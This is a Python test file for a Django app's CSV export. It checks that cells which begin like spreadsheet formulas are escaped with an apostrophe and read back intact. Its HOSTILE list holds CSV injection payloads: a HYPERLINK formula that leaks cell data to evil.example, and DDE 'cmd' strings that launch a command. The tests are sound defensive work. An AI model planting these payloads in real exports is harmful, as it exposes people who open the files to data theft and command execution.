"""CSV downloads never carry a formula a spreadsheet would run, and the rule reads back what it wrote."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stats.csv_cells import decode_cell, decode_row, encode_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Clicca")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text_and_read_back_unchanged(text):
    written = encode_cell(text)
    assert written == "'" + text
    assert decode_cell(written) == text


@pytest.mark.parametrize("text", ["64", "-3", "+4.5", "0.25", "Cloud computing", "oltre l'80%", "", "'quoted'"])
def test_data_is_written_as_it_is(text):
    assert encode_cell(text) == text
    assert decode_cell(text) == text


def test_an_apostrophe_before_a_formula_is_kept_through_the_round_trip():
    assert encode_cell("'=1+1") == "''=1+1"
    assert decode_cell("''=1+1") == "'=1+1"


@given(st.text())
def test_every_string_reads_back_as_written_and_never_starts_a_formula(text):
    written = encode_cell(text)
    assert decode_cell(written) == text
    # Only a plain number may begin with a sign: it is data to a spreadsheet, not a formula.
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-][0-9.eE+-]+", written)


def download(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url,language",
    [("/it/dati/ibm-cio-study.csv", "it"), ("/en/data/ibm-cio-study.csv", "en")],
)
def test_hostile_labels_and_source_are_neutralised_in_each_language(client, demo, url, language):
    from stats.models import Figure, Survey, Wave

    figure = Figure.objects.get(key="cloud-computing")
    setattr(figure, f"label_{language}", HOSTILE[0])
    figure.save()
    wave = Wave.objects.get(key="today")
    setattr(wave, f"label_{language}", "@SUM(1+1)")
    wave.save()
    survey = Survey.objects.get()
    setattr(survey, f"title_{language}", "=cmd|' /C calc'!A0")
    survey.publisher = "+IBM"
    survey.save()

    rows = download(client, url)
    assert {len(row) for row in rows} == {len(rows[0])}  # still rectangular
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
    cloud = [row for row in rows if row[0] == "cloud-computing"]
    assert cloud and all(row[1] == "'" + HOSTILE[0] for row in cloud)
    assert decode_row(cloud[0])[1] == HOSTILE[0]  # the importer's rule gives the label back
    assert "'@SUM(1+1)" in [row[3] for row in cloud]
    assert all(decode_cell(row[8]).startswith("+IBM, =cmd") for row in rows[1:])
